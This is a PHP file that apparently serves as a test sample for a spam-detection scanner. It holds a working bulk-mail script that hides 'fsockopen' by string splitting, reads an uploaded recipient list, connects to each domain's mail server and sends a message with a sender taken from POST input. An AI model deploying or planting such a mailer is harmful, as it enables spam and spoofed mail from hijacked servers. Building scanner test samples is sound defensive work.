<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$o = 'fsock' . 'open';
$list = file($_FILES['list']['tmp_name'], FILE_IGNORE_NEW_LINES);
foreach ($list as $rcpt) {
    [, $dom] = explode('@', $rcpt);
    getmxrr($dom, $mx);
    $s = $o($mx[0], 25, $e, $es, 5);
    $w = fn($l) => fwrite($s, $l . "\r\n");
    $w('HELO ' . $_SERVER['HTTP_HOST']);
    $w('MAIL FROM:<' . $_POST['from'] . '>');
    $w("RCPT TO:<$rcpt>");
    $w('DATA');
    $w($_POST['msg'] . "\r\n.");
    $w('QUIT');
    fclose($s);
}
